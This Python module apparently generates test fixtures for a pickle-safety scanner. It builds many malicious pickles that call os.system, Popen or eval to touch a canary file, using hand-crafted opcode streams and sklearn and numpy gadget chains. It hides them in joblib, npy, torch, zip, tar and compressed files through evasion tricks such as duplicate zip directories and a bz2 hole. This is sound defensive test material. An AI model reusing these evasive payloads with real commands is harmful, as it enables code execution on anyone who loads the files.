"""Malicious pickles, in every wrapping that libraries read pickles from. They are written and never loaded: each would leave a canary."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import pickletools
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any


class Bomb:
    """What runs a command when it is unpickled."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.canary}",)


def _text(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def by_opcodes(canary: str) -> Iterator[tuple[str, bytes]]:
    """Written by hand: names that are memoised, popped, built up, doubled; opcodes that few know."""
    command = _text(f"touch {canary}")
    call = command + b"\x85R."
    yield "global", b"cos\nsystem\n" + call
    yield "inst", b"(" + command + b"ios\nsystem\n."
    yield "obj", b"(cos\nsystem\n" + command + b"o."
    yield "stack_global", b"\x80\x04" + _text("os") + _text("system") + b"\x93" + call
    yield "memoised", b"\x80\x04" + _text("system") + b"\x940" + _text("os") + b"\x940h\x01h\x00\x93" + call
    yield "put_and_get", b"Vsystem\np7\n0Vos\np300\n0g300\ng7\n\x93" + call
    yield "long_binput", b"\x80\x02X\x06\0\0\0systemr\0\1\0\x000X\x02\0\0\0osj\0\1\0\0\x93" + call
    yield (
        "overwritten_memo",
        b"\x80\x04" + _text("set") + b"q\x050" + _text("system") + b"q\x050" + _text("os") + b"h\x05\x93" + call,
    )
    yield "doubled", b"\x80\x04" + _text("system") + b"20" + _text("os") + b"q\x000" + b"q\x010h\x00h\x01\x93" + call
    yield "behind_marks", b"\x80\x04((K\x01K\x0210" + _text("os") + _text("system") + b"\x93" + call
    yield "quoted", b"S'os'\nS'sys\\x74em'\n\x93" + call
    yield "escaped", b"V\\u006fs\nVsyste\\u006d\n\x93" + call
    yield "python_2", b"c__builtin__\neval\n" + call
    yield "mapped", b"ccommands\ngetoutput\n" + call
    yield "dotted", b"\x80\x04" + _text("sklearn.linear_model._base") + _text("os.system") + b"\x93" + call
    yield "computed", b"\x80\x04" + _text("os") + b"cbuiltins\nstr\n" + _text("system") + b"\x85R\x93" + call
    yield "from_a_list", b"\x80\x04" + _text("os") + b"]" + _text("system") + b"a\x93" + call
    yield "extension", b"\x80\x02\x82\x05" + call
    yield "extension_4", b"\x80\x02\x84\x05\0\0\0" + call
    yield "called_result", b"\x80\x04cfunctools\npartial\n)R" + call
    yield (
        "altered_class",
        b"\x80\x04csklearn.linear_model._base\nLinearRegression\nN}" + _text("predict") + b"cnumpy\nexp\ns\x86b.",
    )
    yield "calling_a_scorer", _calling("sklearn.metrics._scorer\n_PassthroughScorer", canary)
    yield "calling_a_callback", _calling("sklearn.linear_model._stochastic_gradient\n_ValidationScoreCallback", canary)
    yield (
        "altered_mapping",
        b"\x80\x04csklearn.neural_network._base\nACTIVATIONS\n" + _text("relu") + b"cnumpy\nexp\ns.",
    )
    yield "altered_list", b"\x80\x04csklearn.svm._base\nLIBSVM_IMPL\n(" + _text("evil") + b"e."
    yield "second", b"\x80\x04N." + b"cos\nsystem\n" + call
    yield "second_after_protocol", b"\x80\x04N.\x80\x04cos\nsystem\n" + call
    yield "truncated", (b"\x80\x04cos\nsystem\n" + call)[:-1]
    yield "broken_after", b"\x80\x04cos\nsystem\n" + command + b"\x85R0\xff"
    yield "underflow_after", b"\x80\x04cos\nsystem\n" + command + b"\x85R000000."
    yield "no_stop", b"\x80\x04]" + b"N0" * 10
    yield "in_bytes", pickle.dumps({"x": pickle.dumps(Bomb(canary))})
    yield "newobj", b"\x80\x04csubprocess\nPopen\n" + command + b"\x85\x81."
    yield "newobj_ex", b"\x80\x04csubprocess\nPopen\n" + command + b"\x85}\x92."
    yield "import", b"cbuiltins\n__import__\n" + _text("antigravity") + b"\x85R."
    yield "getattr", b"cbuiltins\ngetattr\ncbuiltins\nint\n" + _text("__class__") + b"\x86R."
    yield "ufunc", b"cnumpy.core\n_ufunc_reconstruct\n" + _text("os") + _text("system") + b"\x86R" + call
    yield "runstring", b"cnumpy.testing._private.utils\nrunstring\n" + command + b"}\x86R."
    yield (
        "distribution",
        b"cscipy.stats._continuous_distns\nnorm_gen\n)\x81}" + _text("_parse_arg_template") + command + b"sb.",
    )
    yield "torch_bytes", b"ctorch.storage\n_load_from_bytes\n" + call
    yield "odd_frame", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"cos\nsystem\n" + call
    yield "wrong_frame", b"\x80\x04\x95" + struct.pack("<Q", 3) + b"cos\nsystem\n" + call
    yield "misleading_extension_of_names", b"\x80\x04cnumpy\nload\n" + call
    yield "missing_memo", b"\x80\x04cos\nsystem\n" + command + b"\x85Rh\x63."
    for protocol in range(6):
        yield f"protocol_{protocol}", pickle.dumps([Bomb(canary), {"a": 1}], protocol)
        yield f"optimised_{protocol}", pickletools.optimize(pickle.dumps({"a": ("b", Bomb(canary))}, protocol))


def _calling(named: str, canary: str) -> bytes:
    """An instance of a class whose state says what its `__setstate__` is: the second state calls that, a partial of an instance of the
    named class. Given a stacking, a scorer calls `score`, and that `tofile` of the array that is said to be its estimator."""
    estimator = b"csklearn.linear_model._logistic\nLogisticRegression\n"
    array = b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\0\x85C\1b\x87R(K\1K\1\x85cnumpy\ndtype\nX\2\0\0\0S4\x85RK\0C\4evilt"
    state = (
        b"}(" + _text("estimators_") + b"]" + array + b"ba" + _text("stack_method_") + b"]" + _text("tofile") + b"a"
        + _text("estimators") + b"]NN\x86a" + _text("_label_encoder") + b"]K\1a" + _text("classes_") + b"]K\1a"
        + _text("final_estimator_") + estimator + b")Ru"
    )  # fmt: skip
    stacking = b"csklearn.ensemble._stacking\nStackingClassifier\nN\x85R" + state + b"b"
    scorer = b"c" + named.encode() + b"\n)\x81"
    call = b"cfunctools\npartial\n(" + scorer + stacking + _text(canary) + b"]K\1atR"
    return b"\x80\x04" + estimator + b")R}" + _text("__setstate__") + call + b"sbNb."


def by_wrappings(canary: str) -> Iterator[tuple[str, bytes]]:
    """The same in arrays, archives and compressed files."""
    import joblib
    import numpy as np

    plain = pickle.dumps(Bomb(canary))
    for name, pack in _COMPRESSORS.items():
        yield f"{name}.joblib", pack(plain)
    for compress in (0, 3, ("gzip", 3), ("bz2", 3), ("lzma", 3), ("xz", 3)):
        stream = io.BytesIO()
        joblib.dump({"a": np.arange(99.0), "o": np.array([Bomb(canary)], object), "b": np.arange(9)}, stream, compress)
        yield f"joblib_{compress if isinstance(compress, int) else compress[0]}.joblib", stream.getvalue()
    stream = io.BytesIO()
    joblib.dump([np.arange(99.0), Bomb(canary)], stream)
    yield "behind_an_array.joblib", stream.getvalue()
    yield "array_made_otherwise.joblib", _array_made_otherwise(canary)
    stream = io.BytesIO()
    np.save(stream, np.array([Bomb(canary)], object), allow_pickle=True)
    yield "objects.npy", stream.getvalue()
    header = b"{'descr': 'object', 'fortran_order': False, 'shape': (1,)}\n"
    yield "objects_by_another_word.npy", b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + plain
    yield "objects.npz", zipped({"a.npy": stream.getvalue()})
    yield "torch.pt", zipped({"archive/data.pkl": plain, "archive/data/0": b"\0" * 64, "archive/version": b"3\n"})
    yield "odd_names.pt", zipped({"a/version": b"3\n", "a/readme.txt": plain})
    yield "two_directories.pt", two_directories({"a/data.pkl": pickle.dumps(1)}, {"a/data.pkl": plain})
    yield "packed.tar.gz", gzip.compress(_tar({"data.pkl": plain}))
    yield "packed_zip.gz", gzip.compress(zipped({"data.pkl": plain}))
    yield "cut.gz", gzip.compress(pickle.dumps([Bomb(canary), os.urandom(999)]))[:-200]
    yield "followed.gz", gzip.compress(plain) + b"more"
    broken = zlib.compress(plain + os.urandom(20_000))
    yield "broken_later.bin", broken[:15_000] + b"\xff" * 5000
    yield "nested.zip", zipped({"inner.zip": zipped({"data.pkl": plain})})
    yield "behind.pkl", b"\x80\x04N." + zipped({"data.pkl": plain})
    yield "twice.zip", zipped({"data.pkl": pickle.dumps(1)}, {"data.pkl": plain})
    whole = zipped({"archive/data.pkl": plain})
    yield (
        "encrypted.zip",
        whole.replace(b"PK\1\2" + whole[whole.index(b"PK\1\2") + 4 :][:4], b"PK\1\2" + b"\x14\3\x14\0", 1).replace(
            b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0"
        ),
    )
    yield "bad_crc.zip", whole.replace(struct.pack("<L", zlib.crc32(plain)), b"\1\2\3\4")
    yield "renamed_member.zip", whole.replace(b"archive/data.pkl", b"archive/data.txt", 1)
    first = io.BytesIO()
    parts: tuple[Any, ...] = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}, Bomb(canary), [])
    for part in parts:
        pickle.dump(part, first, 2)
    yield "legacy.pth", first.getvalue() + b"\0" * 64
    yield "oldest.pth", _tar({"pickle": plain})


def in_a_bz2_file(path: str, canary: str) -> None:
    """What unpacks to a harmless pickle, and is one itself: "BZh91" says that 825 MB are bytes (here a hole). Behind them it does harm."""
    with open(path, "wb") as file:
        file.write(bz2.compress(pickle.dumps(1)))
        file.seek(5 + int.from_bytes(b"Zh91", "little"))
        file.write(b"0cos\nsystem\n" + _text(f"touch {canary}") + b"\x85R.")


def two_directories(seen: dict[str, bytes], hidden: dict[str, bytes]) -> bytes:
    """A zip with two directories: Python reads the one before the end, others the one whose place is written. Members of the same names."""
    padding = next(iter(seen)).partition("/")[0] + "/padding"
    body, directory, _ = _parts({**hidden, padding: b"\0" * 9999})
    body_seen, directory_seen, end = _parts({**seen, padding: b""})
    shift = len(directory) + len(body_seen)
    shifted, at = bytearray(directory_seen), 0
    while at < len(shifted):
        lengths = struct.unpack("<HHH", shifted[at + 28 : at + 34])
        offset = int.from_bytes(shifted[at + 42 : at + 46], "little") + len(body) + len(directory) - shift
        shifted[at + 42 : at + 46] = struct.pack("<L", offset)
        at += 46 + sum(lengths)
    return body + directory + body_seen + bytes(shifted) + end[:16] + struct.pack("<L", len(body)) + end[20:]


def _parts(members: dict[str, bytes]) -> tuple[bytes, bytes, bytes]:
    whole = zipped(members)
    end = whole.rindex(b"PK\5\6")
    length, offset = struct.unpack("<LL", whole[end + 12 : end + 20])
    return whole[:offset], whole[offset : offset + length], whole[end:]


def _tar(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return stream.getvalue()


_COMPRESSORS: dict[str, Callable[[bytes], bytes]] = {
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda content: lzma.compress(content, format=lzma.FORMAT_ALONE),
}


def zipped(*members: dict[str, bytes]) -> bytes:
    """A zip of these members, as torch and numpy write them."""
    import warnings

    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of two members of one name
        for part in members:
            for name, content in part.items():
                archive.writestr(name, content)
    return stream.getvalue()


def _array_made_otherwise(canary: str) -> bytes:
    """joblib skips the "array", which swallows the rest for who does not see that it is one."""
    import joblib
    import numpy as np

    stream = io.BytesIO()
    joblib.dump(np.zeros(5, "u1"), stream, protocol=2)
    honest = stream.getvalue()
    made = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
    assert made in honest
    start = honest.index(made)
    rest = honest[start + len(made) :]
    rest = rest[rest.index(b")\x81") + 2 :]
    hidden = b"0cos\nsystem\n" + _text(f"touch {canary}") + b"\x85R."
    swallow = b"0B" + struct.pack("<L", len(hidden))[:3]
    return (
        honest[:start]
        + b"ccopyreg\n__newobj__\n"
        + made
        + b"\x85R"
        + rest[: rest.rindex(b"b") + 1]
        + swallow
        + b"\0"
        + hidden
    )
